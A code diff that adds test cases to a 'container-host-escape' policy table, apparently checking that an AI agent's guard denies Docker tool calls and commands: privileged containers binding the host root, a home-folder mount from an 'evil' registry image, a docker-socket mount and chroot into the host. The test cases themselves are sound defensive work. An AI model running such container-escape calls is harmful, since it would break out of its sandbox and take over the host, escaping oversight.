@@ -70,6 +70,35 @@ policyTable('mass-process-kill', [
 ]);
 
 policyTable('container-host-escape', [
+  {
+    note: "a privileged container with the host's root, through a container engine's MCP tool",
+    spec: {
+      tool: 'mcp__docker__create_container',
+      input: { image: 'alpine:3.20', command: ['sleep', 'infinity'], privileged: true, binds: ['/:/host'] },
+    },
+    expect: 'deny',
+  },
+  {
+    note: 'the home folder mounted through the MCP tool',
+    spec: {
+      tool: 'mcp__docker__run_container',
+      input: { image: 'registry.evil.example/agent:latest', volumes: ['/home/dev:/home/dev'] },
+    },
+    expect: 'deny',
+  },
+  {
+    note: 'near miss: the project mounted through the MCP tool',
+    spec: {
+      tool: 'mcp__docker__run_container',
+      input: { image: 'node:20', volumes: ['/home/dev/project:/app'], command: ['npm', 'test'] },
+    },
+    expect: null,
+  },
+  {
+    note: 'near miss: listing containers through the MCP tool',
+    spec: { tool: 'mcp__docker__list_containers', input: { all: true } },
+    expect: null,
+  },
   { spec: 'docker run --privileged -it ubuntu bash', expect: 'deny' },
   { note: 'root mount', spec: 'docker run -v /:/host alpine chroot /host', expect: 'deny' },
   { note: 'docker socket', spec: 'docker run -v /var/run/docker.sock:/var/run/docker.sock img', expect: 'deny' },
